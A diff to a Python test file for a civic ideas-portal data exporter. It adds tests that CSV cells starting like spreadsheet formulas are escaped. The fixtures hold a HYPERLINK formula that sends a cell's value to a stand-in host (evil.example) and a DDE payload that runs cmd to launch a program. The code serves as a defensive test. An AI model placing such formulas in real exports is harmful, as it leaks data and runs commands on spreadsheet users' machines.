@@ -13,7 +13,7 @@ import frictionless
 import pytest
 
 from generator.duty import response_duty
-from generator.exports import DATA_LICENSE, write_exports
+from generator.exports import DATA_LICENSE, neutralise, write_exports
 from generator.feeds import write_feeds
 from generator.portal import Portal
 from generator.schema import render, schemas
@@ -126,10 +126,12 @@ def test_overdue_is_not_in_time_and_absolute_urls(portal: PortalDir, tmp_path: P
 def test_ideas_csv_matches_ideas_json(demo_data: Path) -> None:
     def cell(value: object) -> str:
         if isinstance(value, list):
-            return ";".join(value)
+            return neutralise(";".join(value))
         if isinstance(value, bool):
             return str(value).lower()
-        return "" if value is None else str(value)
+        if isinstance(value, int | float):
+            return str(value)
+        return "" if value is None else neutralise(value)
 
     ideas = load(demo_data / "ideas.json")
     table = rows(demo_data / "ideas.csv")
@@ -153,6 +155,43 @@ def test_due_dates_follow_the_duty_rule(demo_portal: Portal, demo_data: Path) ->
             None if duty is None or duty.state == "due" else duty.state == "met"
         ), key
     assert {True, False} <= {idea["answered_in_time"] for idea in exported.values()}
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "author": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "=1+2",
+}
+
+
+@pytest.mark.parametrize("summary", ["=1+2", "-1+1", "+1+1", "@A1"])
+def test_csv_cells_that_start_like_a_formula_are_neutralised(portal: PortalDir, tmp_path: Path, summary: str) -> None:
+    idea = (
+        f"title: {json.dumps(FORMULAS['title'])}\nkind: idea\nsubmitted: 2026-01-10\n"
+        f"author: {json.dumps(FORMULAS['author'])}\ncategory: traffic\nchannel: web\n"
+        f"summary: {json.dumps(summary)}\nbody: Some text.\n"
+    )
+    portal.write("content/ideas/2026-0001.yaml", idea)
+    out = tmp_path / "data"
+    write_exports(built(portal), out, site_url=None, today=TODAY)
+    row = rows(out / "ideas.csv")[0]
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["author"] == "'" + FORMULAS["author"]
+    assert row["summary"] == "'" + summary
+    # Numbers stay numbers, and the JSON keeps every text exactly as written.
+    assert row["supporters"].isdigit()
+    first = load(out / "ideas.json")[0]
+    assert (first["title"], first["author"], first["summary"]) == (FORMULAS["title"], FORMULAS["author"], summary)
+
+
+def test_neutralise_leaves_ordinary_text_alone() -> None:
+    assert neutralise("A safe bike lane") == "A safe bike lane"
+    assert neutralise("2026-01-10") == "2026-01-10"
+    assert neutralise("a=b") == "a=b"
+    assert neutralise("") == ""
+    # The validator refuses control characters in one-line fields; the CSV does not rely on it.
+    assert neutralise("\tx") == "'\tx"
+    assert neutralise("\r=1") == "'\r=1"
 
 
 def test_answers_json(portal: PortalDir, tmp_path: Path) -> None:
